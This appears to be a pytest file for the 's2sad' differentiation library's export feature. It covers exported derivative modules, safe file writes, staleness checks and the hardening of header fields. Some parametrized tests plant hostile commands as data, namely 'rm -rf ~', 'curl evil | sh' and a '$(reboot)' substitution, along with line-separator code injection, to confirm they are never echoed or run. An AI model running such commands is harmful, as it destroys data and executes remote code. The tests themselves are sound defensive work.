"""Ahead-of-time export: exported modules run where s2sad cannot be imported and agree with it.

The user module below has loops, branches, helper calls, globals, in-place
updates and a closure. Every case is exported in this process; ONE subprocess
(with ``sys.modules['s2sad'] = None``, so any ``import s2sad`` fails) imports
all exported modules and evaluates them; the results are compared here with
the in-memory derivatives and with finite differences.
"""

from __future__ import annotations

import importlib
import pickle
import re
import py_compile
import shutil
import subprocess
import sys
import textwrap

import numpy as np
import pytest

import s2sad
from s2sad.export import ExportError, check, export, export_source

sys.path.insert(0, str(__import__("pathlib").Path(__file__).parent))
from gradcheck import numeric_grad  # noqa: E402

USER_MODULE = '''\
import math

import numpy as np

SCALE = 2.5
WEIGHTS = np.array([1.0, -2.0, 0.5])
N_STEPS = 4


def squash(a, b):
    return a * np.tanh(b)


def count(v):
    return len(v)


def loop_branch(x, w):
    s = 0.0
    for i in range(x.shape[0]):
        if x[i] > 0:
            s = s + squash(x[i], w[i]) * SCALE
        else:
            s = s - math.exp(x[i]) / count(x)
    y = x.copy()
    y[0] = y[0] * 3.0
    return s + np.sum(y * WEIGHTS) + np.mean(x ** 2)


def while_loop(x):
    k = 0
    while k < N_STEPS:
        x = np.sin(x) * 1.1 + 0.1 * x
        k += 1
    return x


def inplace(x):
    y = np.zeros(3)
    for i in range(3):
        y[i] = x[i] ** 2 * WEIGHTS[i]
    y[1] += x[0] * x[2]
    return np.sum(y * y)


def scalars(a, b):
    if a > b:
        return math.exp(a) * b + math.log(b)
    return a * b * b


def vector_out(x):
    return np.sin(x) * WEIGHTS


def make_scaled(scale):
    def scaled(x):
        return np.sum(np.cos(x) * scale)
    return scaled


scaled = make_scaled(1.75)


def power(x, n):
    return 1.0 if n == 0 else x * power(x, n - 1)


def recursion(x):
    return np.sum(power(x, 3) * np.sin(x))


def twice(x):
    return np.sum(squash(x, WEIGHTS) * squash(x * x, 2.0 * x))
'''

X3 = [0.5, -1.0, 2.0]
W3 = [0.3, 0.2, -0.1]

FORWARD = hasattr(s2sad, "hvp") and hasattr(s2sad, "hessian") and hasattr(s2sad, "jvp")
FWD = ("jvp", "hvp", "hessian") if FORWARD else ()
V3 = "np.array([1.0, 0.5, -2.0])"

# name, wrt, modes, args (as Python literals, rebuilt identically in the subprocess)
CASES = [
    ("loop_branch", ("x", "w"), ("grad", "value_and_grad", "vjp"), f"[np.array({X3}), np.array({W3})]"),
    ("while_loop", 0, ("grad", "value_and_grad") + FWD, "[0.7]"),
    ("inplace", "x", ("grad",) + FWD, f"[np.array({X3})]"),
    ("scalars", (0, 1), ("grad", "value_and_grad"), "[1.5, 0.5]"),
    ("scaled", 0, ("grad",), f"[np.array({X3})]"),
    ("vector_out", 0, ("grad", "vjp") + FWD[:1], f"[np.array({X3})]"),
    # helpers as subroutines of their own (power_fwd / power_bwd, squash_fwd ...), written into the module
    ("recursion", 0, ("grad", "value_and_grad") + FWD, f"[np.array({X3})]"),
    ("twice", 0, ("grad",) + FWD, f"[np.array({X3})]"),
]


def extra_args(name, mode):
    """The cotangent of vjp, the tangent of jvp and hvp (as literals)."""
    if mode == "vjp":
        return "[np.array([1.0, 2.0, -1.0])]" if name == "vector_out" else "[1.0]"
    if mode in ("jvp", "hvp"):
        return "[0.25]" if name == "while_loop" else f"[{V3}]"
    return "[]"

SUBPROCESS = '''\
import sys
sys.modules["s2sad"] = None  # any import of s2sad now fails
import importlib, pickle, traceback
import numpy as np
try:
    import s2sad  # noqa: F401
    blocked = False
except ImportError:
    blocked = True
out = {"blocked": blocked}
for name, wrt, modes, args in CASES:
    mod = importlib.import_module("exported_" + name)
    for mode in modes:
        fn = getattr(mod, mode + "_" + name)
        a = eval(args)
        extra = eval(EXTRA[(name, mode)])
        try:
            out[(name, mode)] = ("ok", fn(*a, *extra))
        except Exception as exc:
            out[(name, mode)] = ("error", type(exc).__module__ + "." + type(exc).__name__, str(exc))
# differentiable arguments are converted as in memory: ints and number lists
out["coerced"] = mod_grad = importlib.import_module("exported_loop_branch").grad_loop_branch([1, -1, 2], [0, 1, 1])
out["modules"] = sorted(m for m in sys.modules if m.split(".")[0] == "s2sad" and sys.modules[m] is not None)
with open("results.pkl", "wb") as fh:
    pickle.dump(out, fh)
'''


@pytest.fixture(scope="module")
def exported(tmp_path_factory):
    """Export every case, run the exported modules in one s2sad-free subprocess, return both sides."""
    root = tmp_path_factory.mktemp("export")
    (root / "expmodel.py").write_text(USER_MODULE)
    sys.path.insert(0, str(root))
    try:
        sys.modules.pop("expmodel", None)
        model = importlib.import_module("expmodel")
        paths = {}
        for name, wrt, modes, _ in CASES:
            path = root / f"exported_{name}.py"
            export(getattr(model, name), str(path), wrt=wrt, modes=modes)
            paths[name] = path
        extras = {(name, mode): extra_args(name, mode) for name, _, modes, _ in CASES for mode in modes}
        script = f"CASES = {CASES!r}\nEXTRA = {extras!r}\n" + SUBPROCESS
        proc = subprocess.run([sys.executable, "-c", script], cwd=root, capture_output=True, text=True, timeout=120,
                              env={"PATH": "/usr/bin:/bin", "PYTHONPATH": str(root), "HOME": str(root)})
        assert proc.returncode == 0, proc.stderr
        with open(root / "results.pkl", "rb") as fh:
            results = pickle.load(fh)
        yield model, root, paths, results
    finally:
        sys.path.remove(str(root))


def _args(text):
    return eval(text)


def _close(a, b, **kw):
    if isinstance(a, tuple):
        assert isinstance(b, tuple) and len(a) == len(b)
        for x, y in zip(a, b):
            _close(x, y, **kw)
    else:
        np.testing.assert_allclose(np.asarray(a, dtype=float), np.asarray(b, dtype=float), **kw)


def test_subprocess_could_not_import_s2sad(exported):
    _, _, paths, results = exported
    assert results["blocked"] is True
    assert results["modules"] == []
    for path in paths.values():
        text = path.read_text()
        assert not re.search(r"^\s*(import|from)\s+s2sad", text, re.M)


@pytest.mark.parametrize("case", [c for c in CASES if c[0] != "vector_out"], ids=lambda c: c[0])
def test_exported_matches_in_memory_and_finite_differences(exported, case):
    model, _, _, results = exported
    name, wrt, modes, args_text = case
    f = getattr(model, name)
    for mode in modes:
        status, *payload = results[(name, mode)]
        assert status == "ok", payload
        got = payload[0]
        args = _args(args_text)
        if mode == "grad":
            _close(got, s2sad.grad(f, wrt=wrt)(*args), rtol=1e-12, atol=1e-12)
            _close(got, numeric_grad(f, args, wrt), rtol=1e-6, atol=1e-7)
        elif mode == "value_and_grad":
            value, g = s2sad.value_and_grad(f, wrt=wrt)(*args)
            _close(got[0], value, rtol=1e-12)
            _close(got[1], g, rtol=1e-12, atol=1e-12)
        elif mode == "vjp":
            extra = _args(extra_args(name, mode))
            _close(got, s2sad.api.build(f, "vjp", wrt)(*args, *extra), rtol=1e-12, atol=1e-12)
        elif mode in ("jvp", "hvp"):
            extra = _args(extra_args(name, mode))
            _close(got, getattr(s2sad, mode)(f, wrt=wrt)(*args, *extra), rtol=1e-12, atol=1e-12)
            # central differences along the tangent: of f (jvp) or of its gradient (hvp)
            h = 1e-6
            shifted = [[a + s * h * extra[0] if i == 0 else a for i, a in enumerate(args)] for s in (1, -1)]
            of = f if mode == "jvp" else s2sad.grad(f, wrt=wrt)
            fd = (np.asarray(of(*shifted[0])) - np.asarray(of(*shifted[1]))) / (2 * h)
            _close(got[1] if mode == "jvp" else got, fd, rtol=1e-5, atol=1e-6)
        elif mode == "hessian":
            _close(got, s2sad.hessian(f, wrt=wrt)(*args), rtol=1e-12, atol=1e-12)


def test_exported_vjp_and_the_plain_value_error_of_the_seed(exported):
    model, _, _, results = exported
    status, *payload = results[("vector_out", "grad")]
    assert status == "error" and payload[0] == "builtins.ValueError"  # not an s2sad exception class
    assert "scalar" in payload[1]
    status, got = results[("vector_out", "vjp")]
    v = np.array([1.0, 2.0, -1.0])
    x = np.array(X3)
    np.testing.assert_allclose(got, np.cos(x) * model.WEIGHTS * v)
    if FORWARD:
        status, (value, value_dot) = results[("vector_out", "jvp")]
        np.testing.assert_allclose(value_dot, np.cos(x) * model.WEIGHTS * _args(V3))


def test_arguments_are_converted_like_in_memory(exported):
    model, _, _, results = exported
    expected = s2sad.grad(model.loop_branch, wrt=("x", "w"))([1, -1, 2], [0, 1, 1])
    _close(results["coerced"], expected, rtol=1e-12)


def test_exported_module_shape(exported):
    model, root, paths, _ = exported
    text = paths["loop_branch"].read_text()
    header = text.splitlines()[:8]
    assert header[0].startswith(f"# Generated by s2sad {s2sad.__version__} from loop_branch in expmodel.py")
    assert any(line.startswith("# source sha256: ") and line.endswith(" loop_branch in expmodel.py") for line in header)
    assert any(line.endswith(" squash in expmodel.py") for line in header)  # an inlined helper is hashed too
    assert any(line.startswith("# regenerate: python -m s2sad export expmodel:loop_branch --wrt x,w") for line in header)
    assert "from expmodel import SCALE, WEIGHTS\n" in text
    assert "import math\n" in text and "import numpy as np\n" in text
    for name in ("def grad_loop_branch(x, w):", "def value_and_grad_loop_branch(x, w):",
                 "def vjp_loop_branch(*args, **kwargs):", "def vjp_loop_branch_positional(x, w, out_bar):",
                 "def unbroadcast(", "def scalar_seed("):
        assert name in text
    # the readable form of .source: labelled sweeps and line comments
    assert "    # forward sweep\n" in text and "    # reverse sweep\n" in text
    assert "# line 22: s = s + squash(x[i], w[i]) * SCALE" in text
    assert s2sad.grad(model.loop_branch, wrt=("x", "w")).source.splitlines()[5] in text
    # a closure value becomes a literal
    assert "scale = 1.75  #" in paths["scaled"].read_text()


def test_export_is_deterministic_and_compiles(exported):
    model, root, paths, _ = exported
    for name, wrt, modes, _ in CASES:
        again = export_source(getattr(model, name), wrt=wrt, modes=modes, path=str(paths[name]))
        assert again == paths[name].read_text(), name
        py_compile.compile(str(paths[name]), doraise=True)


def test_export_passes_ruff(exported):
    _, root, paths, _ = exported
    ruff = shutil.which("ruff")
    if ruff is None:
        pytest.skip("ruff is not installed")
    proc = subprocess.run([ruff, "check", "--isolated", *[str(p) for p in paths.values()]], cwd=root,
                          capture_output=True, text=True)
    assert proc.returncode == 0, proc.stdout + proc.stderr


def _import_user_module(monkeypatch, directory, name, source=None):
    """Write `source` (if given) to directory/name.py and import it afresh as a user module would be."""
    if source is not None:
        (directory / f"{name}.py").write_text(source)
    monkeypatch.syspath_prepend(str(directory))
    monkeypatch.delitem(sys.modules, name, raising=False)
    return importlib.import_module(name)


def test_check_reports_an_edited_subroutine(tmp_path, monkeypatch):
    """A helper called twice is a subroutine (helper_fwd / helper_bwd): its source is hashed too."""
    src = tmp_path / "stalesub.py"
    src.write_text("import numpy as np\n\n\ndef helper(x):\n    return x * x\n\n\n"
                   "def loss(x):\n    return np.sum(helper(x) * helper(2.0 * x))\n")
    mod = _import_user_module(monkeypatch, tmp_path, "stalesub")
    out = tmp_path / "grad_stalesub.py"
    export(mod.loss, str(out))
    assert "def helper_fwd(" in out.read_text() and check(str(out)) == []
    src.write_text(src.read_text().replace("return x * x", "return x * x * x"))
    problems = check(str(out))
    assert problems and "helper changed" in problems[0]


def test_check_reports_a_stale_file(tmp_path, monkeypatch):
    src = tmp_path / "stalemodel.py"
    src.write_text("import numpy as np\n\n\ndef helper(x):\n    return x * x\n\n\n"
                   "def loss(x):\n    return np.sum(helper(x))\n")
    mod = _import_user_module(monkeypatch, tmp_path, "stalemodel")
    out = tmp_path / "sub" / "grad_stale.py"
    export(mod.loss, str(out), parents=True)
    assert "from ../stalemodel.py" not in out.read_text() and " loss in ../stalemodel.py" in out.read_text()
    assert check(str(out)) == []
    # editing a differentiated helper makes it stale as well
    src.write_text(src.read_text().replace("return x * x", "return x * x * x"))
    problems = check(str(out))
    assert problems and "helper changed" in problems[0] and "regenerate with: python -m s2sad export" in problems[-1]
    # an edit elsewhere in the file does not
    src.write_text(src.read_text().replace("return x * x * x", "return x * x") + "\n\nOTHER = 1\n")
    assert check(str(out)) == []
    src.write_text(src.read_text().replace("def loss", "def renamed"))
    assert "no function loss" in check(str(out))[0]
    with pytest.raises(ExportError, match="not a module exported by s2sad"):
        check(str(src))


def test_modes_and_functions_that_cannot_be_exported(tmp_path):
    sys.modules.pop("expmodel2", None)
    (tmp_path / "expmodel2.py").write_text(USER_MODULE)
    sys.path.insert(0, str(tmp_path))
    try:
        model = importlib.import_module("expmodel2")
        with pytest.raises(ExportError, match="unknown mode"):
            export_source(model.scalars, modes=("gradient",))
        if not hasattr(s2sad, "jvp"):
            with pytest.raises(ExportError, match="forward mode"):
                export_source(model.scalars, modes=("jvp",))
        with pytest.raises(ExportError, match="lambda"):
            export_source(eval("lambda x: x * x"), modes=("grad",))
    finally:
        sys.path.remove(str(tmp_path))


def test_export_from_a_script_run_as_main(tmp_path):
    script = tmp_path / "trainer.py"
    script.write_text(textwrap.dedent('''\
        import sys
        import numpy as np

        K = np.array([2.0, 3.0])


        def energy(x):
            return np.sum(K * x * x)


        if __name__ == "__main__":
            import s2sad  # only when run as a script: the exported module imports this file for K

            s2sad.export(energy, sys.argv[1])
        '''))
    out = tmp_path / "grad_energy.py"
    proc = subprocess.run([sys.executable, str(script), str(out)], cwd=tmp_path, capture_output=True, text=True)
    assert proc.returncode == 0, proc.stderr
    text = out.read_text()
    assert "from trainer import K\n" in text
    assert "# note: __main__ is the script trainer.py, imported here as module 'trainer'" in text
    run = subprocess.run([sys.executable, "-c", "import sys; sys.modules['s2sad'] = None\n"
                          "import numpy as np, grad_energy\nprint(grad_energy.grad_energy(np.array([1.0, 1.0])))"],
                         cwd=tmp_path, capture_output=True, text=True)
    assert run.returncode == 0, run.stderr
    assert run.stdout.split() == ["[4.", "6.]"]



# ------------------------------------------------------------------ safe writes (issue 12)

SAFE_MODEL = "import numpy as np\n\n\ndef loss(x):\n    return np.sum(np.sin(x) * x)\n"


@pytest.fixture
def safemodel(tmp_path, monkeypatch):
    """A user module safemodel.py in tmp_path (also the working directory), imported."""
    monkeypatch.chdir(tmp_path)
    return _import_user_module(monkeypatch, tmp_path, "safemodel", SAFE_MODEL)


@pytest.mark.parametrize("force", [False, True])
def test_never_writes_over_the_functions_own_source(safemodel, tmp_path, force):
    with pytest.raises(ExportError, match="it is the source of loss"):
        export(safemodel.loss, str(tmp_path / "safemodel.py"), force=force)
    assert (tmp_path / "safemodel.py").read_text() == SAFE_MODEL


def test_replaces_only_files_it_generated_unless_forced(safemodel, tmp_path):
    other = tmp_path / "notes.py"
    other.write_text("KEEP = 1\n")
    with pytest.raises(ExportError, match="s2sad did not generate it"):
        export(safemodel.loss, str(other))
    assert other.read_text() == "KEEP = 1\n"
    export(safemodel.loss, str(other), force=True)
    assert other.read_text().startswith("# Generated by s2sad")
    # its own export is regenerated without --force; once edited by hand, only with it
    export(safemodel.loss, str(other), modes=("grad", "value_and_grad"))
    other.write_text(other.read_text() + "EDITED = True\n")
    with pytest.raises(ExportError, match="edited by hand"):
        export(safemodel.loss, str(other))
    assert other.read_text().endswith("EDITED = True\n")
    export(safemodel.loss, str(other), force=True)
    assert "EDITED" not in other.read_text()


def test_symbolic_links_are_followed_only_to_its_own_exports(safemodel, tmp_path):
    keep = tmp_path / "keep.py"
    keep.write_text("KEEP = 1\n")
    (tmp_path / "to_keep.py").symlink_to(keep)
    (tmp_path / "dangling.py").symlink_to(tmp_path / "nowhere.py")
    for link, what in (("to_keep.py", "a file s2sad did not generate"), ("dangling.py", "a missing file")):
        with pytest.raises(ExportError, match=f"symbolic link to {what}"):
            export(safemodel.loss, str(tmp_path / link), force=True)
    assert keep.read_text() == "KEEP = 1\n" and not (tmp_path / "nowhere.py").exists()
    generated = tmp_path / "generated.py"
    export(safemodel.loss, str(generated))
    (tmp_path / "to_generated.py").symlink_to(generated)
    export(safemodel.loss, str(tmp_path / "to_generated.py"), modes=("value_and_grad",))
    assert (tmp_path / "to_generated.py").is_symlink()
    assert "def value_and_grad_loss(" in generated.read_text()


def test_missing_directories_are_created_only_with_parents(safemodel, tmp_path):
    out = tmp_path / "a" / "b" / "grad_loss.py"
    with pytest.raises(ExportError, match="does not exist") as info:
        export(safemodel.loss, str(out))
    assert "parents" in info.value.hint and not (tmp_path / "a").exists()
    export(safemodel.loss, str(out), parents=True)
    assert out.read_text().startswith("# Generated by s2sad")


@pytest.mark.parametrize("make, fragment", [
    (lambda p: p.mkdir(), "it is a directory"),
    (lambda p: __import__("os").mkfifo(p), "it is a FIFO"),
    (lambda p: None, "ot a directory"),  # the output's directory is the module file
])
def test_unwritable_targets_are_export_errors(safemodel, tmp_path, make, fragment):
    target = tmp_path / "target.py" if fragment != "ot a directory" else tmp_path / "safemodel.py" / "g.py"
    make(target)
    with pytest.raises(ExportError, match=fragment):
        export(safemodel.loss, str(target))


def test_the_file_is_replaced_whole_by_a_rename(safemodel, tmp_path, monkeypatch):
    import os

    from s2sad import safe_io

    out = tmp_path / "grad_loss.py"
    export(safemodel.loss, str(out))
    out.chmod(0o640)
    before = out.read_text()
    with open(out) as reader:  # a reader of the old file keeps the old file
        export(safemodel.loss, str(out), modes=("grad", "value_and_grad"))
        assert reader.read() == before
    assert "def value_and_grad_loss(" in out.read_text() and (out.stat().st_mode & 0o777) == 0o640
    # a failure while writing leaves the old file and no temporary file
    written = out.read_text()

    def disk_full(fd):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(safe_io.os, "fsync", disk_full)
    with pytest.raises(ExportError, match="cannot write .*No space left on device"):
        export(safemodel.loss, str(out), modes=("vjp",))
    assert out.read_text() == written
    assert sorted(p.name for p in tmp_path.iterdir()) == ["grad_loss.py", "safemodel.py"]
    assert os.listdir(tmp_path) == os.listdir(tmp_path)  # (no stray .tmp file: checked above)


def test_export_errors_are_s2sad_errors(safemodel, tmp_path):
    from s2sad.export import load_function

    with pytest.raises(s2sad.S2SADError, match="is a directory"):
        s2sad.export(safemodel.loss, str(tmp_path))
    with pytest.raises(s2sad.S2SADError, match="not a .py file"):
        load_function("/etc/passwd:f")
    for bad in (3, "a\0.py", b"grad_loss.py", ""):
        with pytest.raises(s2sad.S2SADError, match="output path"):
            s2sad.export(safemodel.loss, bad)
    with pytest.raises(s2sad.S2SADError, match="null byte"):
        check("a\0.py")
    with pytest.raises(s2sad.S2SADError, match="cannot read missing.py"):
        check(b"missing.py")


# ------------------------------------------------------------------ the header cannot be injected

SEPARATORS = ["\n", "\r", "\x0b", "\x0c", "\x1c", "\x1d", "\x1e", "\x85", "\u2028", "\u2029"]


@pytest.mark.parametrize("sep", SEPARATORS, ids=lambda s: f"U+{ord(s):04X}")
def test_header_fields_stay_on_their_comment_line(tmp_path, monkeypatch, capsys, sep):
    """A line break in the source's directory, the output's name or a quoted source line runs nothing."""
    inject = f"{sep}print('INJECTED'){sep}#"
    src_dir = tmp_path / f"src{inject}"
    src_dir.mkdir()
    in_comment = "-" if sep in "\r\n" else sep  # \n and \r would end the user's own comment
    (src_dir / "injmodel.py").write_text(
        f"import numpy as np\n\n# above{in_comment}loss\ndef loss(x):\n"
        f"    return np.sum(x * x)  # see{in_comment}print('INJECTED')\n", newline="")
    mod = _import_user_module(monkeypatch, src_dir, "injmodel")
    mod.loss.__qualname__ = f"loss{inject}"  # a name in the header too
    out_dir = tmp_path / f"out{inject}"  # the output's name must be a module name; its directory's need not
    out_dir.mkdir()
    out = out_dir / "injout.py"
    export(mod.loss, str(out))
    text = out.read_text(encoding="utf-8")
    assert len(text.splitlines()) == text.count("\n")  # no line break but \n anywhere
    assert all(line.lstrip().startswith("#") or "INJECTED" not in line for line in text.splitlines())
    namespace = {}
    exec(compile(text, "exported", "exec"), namespace)
    assert "INJECTED" not in capsys.readouterr().out
    np.testing.assert_allclose(namespace["grad_loss"](np.array([1.0, 2.0])), [2.0, 4.0])
    assert check(str(out)) == []  # the escaped paths lead back to the source


# ------------------------------------------------------------------ check reads safely


@pytest.fixture
def exported_loss(safemodel, tmp_path):
    out = tmp_path / "grad_loss.py"
    export(safemodel.loss, str(out))
    return out


def _point_header_at(out, new_path):
    text = out.read_text()
    out.write_text(re.sub(r"(# source sha256: \w+ loss in ).*", lambda m: m.group(1) + new_path, text, count=1))


def test_check_never_hangs_on_a_fifo(exported_loss, tmp_path):
    import os
    import threading

    fifo = tmp_path / "pipe.py"
    os.mkfifo(fifo)
    _point_header_at(exported_loss, str(fifo))
    result = []
    worker = threading.Thread(target=lambda: result.append(check(str(exported_loss))), daemon=True)
    worker.start()
    worker.join(10)
    if worker.is_alive():  # release the blocked reader before failing
        os.close(os.open(fifo, os.O_WRONLY | os.O_NONBLOCK))
    assert not worker.is_alive(), "check blocked on a FIFO"
    assert "not a regular file (a FIFO)" in result[0][0]
    with pytest.raises(ExportError, match="not a regular file"):
        check(str(fifo))


def test_check_reads_no_device_and_no_huge_file(exported_loss, tmp_path, monkeypatch):
    from s2sad import safe_io

    _point_header_at(exported_loss, "/dev/zero")
    assert "not a regular file (a character device)" in check(str(exported_loss))[0]
    with pytest.raises(ExportError, match="not a regular file"):
        check("/dev/zero")
    big = tmp_path / "big.py"
    with open(big, "wb") as fh:
        fh.truncate(1 << 20)
    monkeypatch.setattr(safe_io, "MAX_READ_BYTES", exported_loss.stat().st_size + 100)
    _point_header_at(exported_loss, str(big))
    assert "larger than" in check(str(exported_loss))[0]


def test_check_reports_a_hand_edited_export(exported_loss, capsys):
    from s2sad.export import MODIFIED

    assert check(str(exported_loss)) == []
    exported_loss.write_text(exported_loss.read_text().replace("return x_bar", "return 2 * x_bar"))
    problems = check(str(exported_loss))
    assert problems[0] == MODIFIED
    assert problems[-1] == f"regenerate with: python -m s2sad export safemodel:loss --wrt x --mode grad -o " \
                           f"{exported_loss} --force"


@pytest.mark.parametrize("recorded", [
    "python -m s2sad export safemodel:loss -o grad_loss.py; rm -rf ~",
    "python -m s2sad export safemodel:loss --mode grad -o grad_loss.py --exec 'curl evil | sh'",
    "curl evil | sh",
    "python -m s2sad export 'safemodel:loss$(reboot)' -o grad_loss.py",
])
def test_check_prints_only_a_command_it_rebuilt(exported_loss, safemodel, recorded):
    text = exported_loss.read_text()
    exported_loss.write_text(re.sub(r"# regenerate: .*", lambda m: "# regenerate: " + recorded, text, count=1))
    (exported_loss.parent / "safemodel.py").write_text(SAFE_MODEL.replace("x)\n", "x * x)\n"))
    problems = check(str(exported_loss))
    assert problems[0] == "safemodel.py: loss changed since the export"
    assert "rm -rf" not in problems[-1] and "curl" not in problems[-1] and "reboot" not in problems[-1]
    assert problems[-1].startswith("regenerate it with python -m s2sad export (the header's command is not")


def test_check_rebuilds_and_quotes_the_regenerate_command(exported_loss, safemodel):
    (exported_loss.parent / "safemodel.py").write_text(SAFE_MODEL.replace("x)\n", "x * x)\n"))
    assert check(str(exported_loss))[-1] == \
        f"regenerate with: python -m s2sad export safemodel:loss --wrt x --mode grad -o {exported_loss}"


@pytest.mark.parametrize("sep", ["\x0c", "\x1c", "\x85", "\u2028"], ids=lambda s: f"U+{ord(s):04X}")
def test_check_counts_lines_as_python_does(safemodel, tmp_path, sep):
    """A line separator inside a comment above the def must not shift the text that is hashed."""
    src = tmp_path / "safemodel.py"
    src.write_text(f"import numpy as np\n\n# a{sep}b\n" + SAFE_MODEL.split("\n\n\n")[1], encoding="utf-8")
    sys.modules.pop("safemodel")
    mod = importlib.import_module("safemodel")
    out = tmp_path / "grad_loss.py"
    export(mod.loss, str(out))
    src.write_text(src.read_text(encoding="utf-8").replace("* x)", "* x * x)"), encoding="utf-8")
    assert check(str(out))[0] == "safemodel.py: loss changed since the export"


def test_check_reports_an_edited_decorator(tmp_path, monkeypatch):
    """docs/export.md: the hashed source includes the decorators."""
    src = tmp_path / "decomodel.py"
    src.write_text(textwrap.dedent('''\
        import functools

        import numpy as np


        def scaled(factor):
            def wrap(f):
                @functools.wraps(f)
                def inner(x):
                    return factor * f(x)
                return inner
            return wrap


        @scaled(2.0)
        def loss(x):
            return np.sum(x * x)
        '''))
    mod = _import_user_module(monkeypatch, tmp_path, "decomodel")
    out = tmp_path / "grad_loss.py"
    export(mod.loss, str(out))
    namespace = {}
    exec(compile(out.read_text(), str(out), "exec"), namespace)
    np.testing.assert_allclose(namespace["grad_loss"](np.array([1.0, 2.0])), [4.0, 8.0])  # the decorator's 2.0
    assert check(str(out)) == []
    original = src.read_text()
    src.write_text(original.replace("@scaled(2.0)", "@scaled(3.0)"))  # the decorator line
    assert check(str(out))[0] == "decomodel.py: loss changed since the export"
    src.write_text(original.replace("return factor * f(x)", "return factor * f(x) ** 2"))  # the decorator's body
    assert check(str(out))[0] == "decomodel.py: scaled.wrap.inner changed since the export"
    assert "--mode grad -o" in check(str(out))[-1] and "decomodel:loss" in check(str(out))[-1]


# ------------------------------------------------------------------ jvp, hvp, vjp take f's arguments as f does

DEFAULTS_MODEL = textwrap.dedent('''\
    import numpy as np


    def f(x, w=2.0, *, scale=3.0):
        return np.sum(np.sin(x) * w) * scale
    ''')

XD, VD = np.array([0.3, 1.2]), np.array([1.0, -0.5])
CALLS = [
    ((XD,), {}),  # the defaults of w and scale
    ((XD, 1.5), {}),  # w positionally
    ((XD,), {"scale": 0.5}),  # a keyword-only parameter
    ((XD,), {"w": 0.7, "scale": 0.5}),
    ((XD, 1.5, 0.5), {}),  # every parameter positionally (how the exported hessian calls hvp)
]


@pytest.fixture
def defaults_export(tmp_path, monkeypatch):
    model = _import_user_module(monkeypatch, tmp_path, "defmodel", DEFAULTS_MODEL)
    out = tmp_path / "d_defmodel.py"
    export(model.f, str(out), modes=("grad", "vjp", "jvp", "hvp", "hessian"))
    namespace = {}
    exec(compile(out.read_text(), str(out), "exec"), namespace)
    return model, namespace


@pytest.mark.parametrize("mode", ["jvp", "hvp", "vjp"])
@pytest.mark.parametrize("call", CALLS, ids=["defaults", "positional_w", "keyword_only", "keywords", "all_positional"])
def test_exported_seeded_modes_keep_defaults_and_keywords(defaults_export, mode, call):
    model, namespace = defaults_export
    args, kwargs = call
    seed = 2.0 if mode == "vjp" else VD
    got = namespace[f"{mode}_f"](*args, seed, **kwargs)
    _close(got, getattr(s2sad, mode)(model.f)(*args, seed, **kwargs), rtol=1e-12, atol=1e-12)
    if mode == "hvp":  # and against central differences of the gradient along the tangent
        bound = inspect_bind(model.f, args, kwargs)
        h = 1e-6
        g = [s2sad.grad(model.f)(XD + s * h * VD, bound[1], scale=bound[2]) for s in (1, -1)]  # as f takes them
        _close(got, (g[0] - g[1]) / (2 * h), rtol=1e-6, atol=1e-8)


def inspect_bind(f, args, kwargs):
    """[x, w, scale] as the call gives them (all positional included, as the in-memory hvp allows)."""
    bound = {"w": 2.0, "scale": 3.0, **dict(zip(["x", "w", "scale"], args)), **kwargs}
    return [bound["x"], bound["w"], bound["scale"]]


def test_exported_seeded_modes_refuse_what_memory_refuses(defaults_export):
    _, namespace = defaults_export
    with pytest.raises(ValueError, match=r"the tangent for x does not have the shape of x, \(2,\)"):
        namespace["jvp_f"](XD, np.ones(3))
    with pytest.raises(TypeError, match="jvp_f takes the arguments of f and then x_dot"):
        namespace["jvp_f"]()
    with pytest.raises(TypeError):
        namespace["vjp_f"](XD, 2.0, nope=1)
    # a tangent given as a list is an array, as in memory
    _close(namespace["jvp_f"](XD, [1.0, -0.5]), namespace["jvp_f"](XD, VD), rtol=0)
    _close(namespace["hessian_f"](XD, scale=0.5), s2sad.hessian(defaults_export[0].f)(XD, scale=0.5), rtol=1e-12)


def test_exported_derivative_refuses_an_object_argument_as_in_memory(tmp_path, monkeypatch):
    """grad of a method with respect to self: in memory an ArgumentError; exported, not a silent 0."""
    mod = _import_user_module(monkeypatch, tmp_path, "methmodel", textwrap.dedent('''\
        import numpy as np


        class Model:
            def loss(self, x):
                return np.sum(x * x)
        '''))
    with pytest.raises(s2sad.S2SADError, match="which has no derivative"):
        s2sad.grad(mod.Model.loss)(mod.Model(), np.ones(2))
    out = tmp_path / "grad_method.py"
    export(mod.Model.loss, str(out))
    namespace = {}
    exec(compile(out.read_text(), str(out), "exec"), namespace)
    with pytest.raises(TypeError, match="must be a float"):
        namespace["grad_loss"](mod.Model(), np.ones(2))


def test_an_exported_derivative_refuses_an_np_matrix(exported):
    # in memory an np.matrix is refused (its * is a matrix product); the exported module computed
    # rows of identical values for it (found by the export review)
    import importlib.util
    _, _, paths, _ = exported
    spec = importlib.util.spec_from_file_location("exported_loop_branch_matrix", paths["loop_branch"])
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    m = np.asmatrix([[1.0, -1.0, 2.0]])
    with pytest.raises(TypeError, match="np.matrix"):
        module.grad_loop_branch(m, m)
